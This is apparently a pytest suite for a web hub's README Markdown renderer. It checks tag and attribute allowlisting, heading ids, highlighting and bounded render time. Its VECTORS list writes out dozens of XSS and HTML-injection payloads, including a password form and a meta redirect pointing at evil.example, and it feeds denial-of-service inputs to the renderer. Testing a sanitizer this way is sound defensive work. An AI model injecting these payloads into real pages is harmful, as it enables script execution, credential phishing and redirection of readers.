"""READMEs: what GitHub's Markdown makes of them, and that nothing of it acts, loads, or takes the page's place."""

import re
import time

import pytest

from entrepot.web.hub.readme import _LANGUAGES, rendered

pytestmark = pytest.mark.fast
# From lists of what has got through others' filters, in Markdown and in the HTML that it may contain.
VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    '![x](https://e.example/"onerror="alert(1))',
    "<details open ontoggle=alert(1)>x</details>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<style>body{display:none}</style>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action='//evil.example'><input name=password type=password><button>x</button></form>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<template><script>alert(1)</script></template>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "```<script>alert(1)</script>\nx\n```",
    "# <img src=x onerror=alert(1)>",
    "<h1 id='main' class='hall hall-official' name='q'>x</h1>",
    "<pre lang='\"><script>alert(1)</script>'>x</pre>",
    "<a href='https://e.example' target=_top rel=opener>x</a>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<input type=text autofocus onfocus=alert(1)>",
    "<td background=javascript:alert(1)>x",
    "<pre><div><div><div><pre>a</pre></div></div></div></pre>\n\n<h1>Outside</h1>",
    "<pre><a href=https://e.example><pre>a</pre></a></pre>\n\n![x](https://e.example/a.png)",
    "<h1><div><h2>x</h2></div>y</h1>",
    "</div></article></main><p>x",
    "<table><tr><td><table></td></tr></table></div>",
    "<details><summary>x</details></summary>",
    "<a href='https://e.example'><pre></a>x</pre>",
]
_ALLOWED = re.compile(
    r"</?(?:a|blockquote|br|code|dd|del|details|div|dl|dt|em|h[2-6]|hr|kbd|li|ol|p|pre|s|span|strong|sub|summary|sup|table|tbody|td|th"
    r"|thead|tr|ul)"
    r'(?: (?:href="(?:https?://|mailto:|#|/|\w)[^"<>]*"|title="[^"<>]*"|rel="nofollow ugc noopener"|id="readme-[^"<>]*"'
    r'|tabindex="0"|class="(?:scroll|task|[a-z]{1,2}\d?)"|start="\d+"|align="\w+"))*>'
)


def is_balanced(tags: list[str]) -> bool:
    """Tell whether everything is closed in the order in which it was opened, and nothing else: so a README stays in its place."""
    left: list[str] = []
    for tag in tags:
        name = tag.strip("</>").partition(" ")[0]
        if name in ("br", "hr"):
            continue
        if not tag.startswith("</"):
            left.append(name)
        elif not left or left.pop() != name:
            return False
    return not left


@pytest.mark.parametrize("vector", VECTORS)
def test_only_tags_and_attributes_that_are_listed_come_out(vector: str) -> None:
    for text in (vector, f"before\n\n{vector}\n\nafter", f"- {vector}", f"> {vector}", f"| a |\n|---|\n| {vector} |"):
        written = rendered(text)
        tags = re.findall(r"<[^>]*>?", written)
        assert all(_ALLOWED.fullmatch(tag) for tag in tags), written
        assert is_balanced(tags), written
        assert not re.search(r'href="\s*(?:javascript|data|vbscript)', written, re.IGNORECASE)


def test_headings_lie_below_the_pages_own_and_can_be_linked_to_and_imitate_none_of_its_ids() -> None:
    written = rendered("# Main\n\n## Main\n\n###### Deep\n\n[there](#Main)")
    assert '<h2 id="readme-main">Main</h2>' in written
    assert '<h3 id="readme-main-1">Main</h3>' in written
    assert '<h6 id="readme-deep">Deep</h6>' in written
    assert 'href="#readme-main"' in written


def test_code_is_highlighted_in_the_languages_that_are_known() -> None:
    assert '<span class="k">def</span>' in rendered("```python\ndef f(): ...\n```")
    assert rendered("```nonsense\na < b\n```") == '<pre tabindex="0"><code>a &lt; b\n</code></pre>\n'
    assert "<span" not in rendered("```python\n" + "x = 1\n" * 5_000 + "```")


def test_pictures_are_links_since_loading_one_tells_its_server_who_reads() -> None:
    assert '<a href="https://e.example/a.png" rel="nofollow ugc noopener">a plan</a>' in rendered(
        "![a plan](https://e.example/a.png)"
    )
    badge = rendered("[![build](https://e.example/b.svg)](https://ci.example)")
    assert '<a href="https://ci.example" rel="nofollow ugc noopener">build</a>' in badge
    assert "<img" not in rendered("![x](//e.example/a.png) ![y](a.png)")


def test_tables_and_tasks_are_githubs() -> None:
    assert "☑" in rendered("- [x] done")
    assert "☐" in rendered("- [ ] not yet")
    assert '<th align="center">b</th>' in rendered("| a | b |\n|---|:-:|\n| 1 | 2 |")


def test_ids_are_githubs_and_each_there_once() -> None:
    written = rendered("# What's new?\n# Foo\n# Foo\n# Foo 1\n# Foo-1\n\n[a](#whats-new) [b](#Foo-1)")
    ids = re.findall(r'id="([^"]*)"', written)
    assert ids == ["readme-whats-new", "readme-foo", "readme-foo-1", "readme-foo-1-1", "readme-foo-1-2"]
    assert 'href="#readme-whats-new"' in written
    assert 'href="#readme-foo-1"' in written


def test_links_that_lead_nowhere_from_here_are_text() -> None:
    for place in ("docs/x.md", "?lang=fr", "/r/x", "//e.example", "../x"):
        assert rendered(f"[c]({place})") == "<p><a>c</a></p>\n"


def cells(count: int) -> str:
    """Return a table that grows: what a row has too few of is filled in."""
    return "|" + "a|" * count + "\n|" + "-|" * count + "\n" + "b\n" * count + "\n"


@pytest.mark.parametrize(
    "text",
    [
        cells(724) * 5,
        cells(250),
        "```java\n" + "a " * 12_000 + "\n```",
        "```perl\n" + "s{" * 12_000,
    ],
)
def test_what_swells_is_shown_as_it_was_written_and_soon(text: str) -> None:
    began = time.process_time()
    written = rendered(text)
    assert time.process_time() - began < 6.0  # what is not bounded takes minutes
    assert len(written) < 160_000


@pytest.mark.parametrize("text", ["# a\n" * 6_000, "<div><h1>" * 2_500 + "x", "<div>" * 2_000 + "x" + "</div>" * 2_000])
def test_many_of_one_kind_take_no_longer_for_each_of_them(text: str) -> None:
    began = time.process_time()
    rendered(text)
    assert time.process_time() - began < 6.0  # what is not bounded takes minutes


def code(language: str) -> str:
    """Return code of which a reader of its language might make too much."""
    pieces = ("a ", "s{", "'\"", "((", "<<", "#{", "\\", "1e")
    return "\n".join(f"```{language}\n{piece * (1_990 // len(piece))}\n```\n" for piece in pieces)


@pytest.mark.parametrize("language", sorted(_LANGUAGES))
def test_no_language_is_read_slowly(language: str) -> None:
    began = time.process_time()
    rendered(code(language))
    assert time.process_time() - began < 6.0  # what is not bounded takes minutes


@pytest.mark.parametrize(
    "text", ["[" * 20_000, "**a" * 8_000, ">" * 20_000, "| " * 12_000, "<" * 20_000, "\0", "# " + "é" * 20_000]
)
def test_what_is_made_to_take_long_takes_no_longer(text: str) -> None:
    assert isinstance(rendered(text), str)
